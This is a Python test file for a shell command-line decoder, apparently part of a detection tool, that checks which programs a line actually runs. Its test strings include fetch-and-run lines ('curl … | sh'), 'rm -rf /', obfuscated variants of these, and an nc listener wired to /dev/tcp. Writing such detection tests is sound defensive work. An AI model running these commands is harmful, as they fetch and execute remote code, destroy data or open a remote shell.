"""Command lines as a shell takes them apart."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.hub.detect.commandline import MAX_COMMANDS, decode, script

WORDS = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=20)


def runs(line: str) -> list[tuple[str, tuple[str, ...]]]:
    return [(command.program, command.arguments) for command in decode(line)]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("/usr/bin/curl -s x", "curl"),
        ("sudo -u root nohup /tmp/x &", "x"),
        ("env A=1 B=2 nice -n 5 make", "make"),
        ("busybox wget x", "wget"),
        ("timeout -k 3 5 /bin/sh -c 'a; b'", "a ; b"),
        ("sh -lc 'curl x | sh'", "curl | sh"),
        ("sh -c 'sh -c \"a | b\" && c'", "a | b && c"),
        ("su - pi -c 'rm -rf /var'", "rm"),
        ("bash <(curl http://x)", "curl | bash"),
        ('sh -c "$(curl -fsSL http://x)"', "curl | sh"),
        ("sh -c 'echo `id`'", "id | echo"),
        ("find /var/log -name '*.log' -exec rm -rf '{}' '+'", "find | rm"),
        ("xargs -n 1 rm", "rm"),
        ("if true; then rm x; fi", "true ; rm"),
        ("sh -c '( a; b ) || c # and no more'", "a ; b || c"),
        ("curl${IFS}http://x|sh", "curl | sh"),
        ("bash -c $'r\\x6d -rf /'", "rm"),
        ("sh -c 'r\"m\" -rf /'", "rm"),
        ("eval rm -rf /", "rm"),
        ("bash /opt/app/run.sh", "bash"),
        ("", ""),
    ],
)
def test_a_line_runs_these_programs(line: str, expected: str):
    """Whatever starts them and however they are quoted."""
    assert script(decode(line)) == expected


def test_what_is_only_mentioned_does_not_run():
    """An argument stays an argument."""
    assert runs("echo 'rm -rf /'") == [("echo", ("rm -rf /",))]
    assert runs("git commit -m 'curl x | sh'") == [("git", ("commit", "-m", "curl x | sh"))]


def test_options_operands_redirections_and_variables_are_told_apart():
    """Short options one by one, values of long ones left out, what follows -- taken as it is."""
    [command] = decode("LD_PRELOAD=/tmp/x.so rm -rf --max=3 a -- -b 2>/dev/null")
    assert command.flags == ("-rf", "-r", "-f", "--max")
    assert command.operands == ("a", "-b")
    assert command.redirects == ("2>/dev/null",)
    assert command.environment == ("LD_PRELOAD=/tmp/x.so",)


def test_what_a_command_is_started_through_is_kept():
    """Outermost first, and redirections of the shell around hold for what it runs."""
    [command] = decode("sudo bash -c 'nohup nc -l 9 <&3' >/dev/tcp/192.0.2.1/80")
    assert command.via == ("sudo", "bash", "nohup")
    assert command.redirects == (">/dev/tcp/192.0.2.1/80", "<&3")


@given(st.lists(WORDS, max_size=6))
def test_quoting_changes_nothing(arguments: list[str]):
    """A line quoted for a shell has exactly the arguments it was made of."""
    assert runs(shlex.join(["program", *arguments])) == [("program", tuple(arguments))]


@given(st.text(max_size=300))
def test_any_text_can_be_taken_apart(line: str):
    """Nothing raises, and the number of commands is bounded."""
    assert len(decode(line)) <= MAX_COMMANDS


def test_deep_nesting_and_long_lists_are_cut():
    """Neither exhausts us."""
    line = "x"
    for _ in range(12):
        line = shlex.join(["sh", "-c", line])
    assert [command.program for command in decode(line)] == ["sh"]
    assert len(decode("a; " * 1_300)) == MAX_COMMANDS
    assert len(decode("$(" * 2_000)) <= MAX_COMMANDS
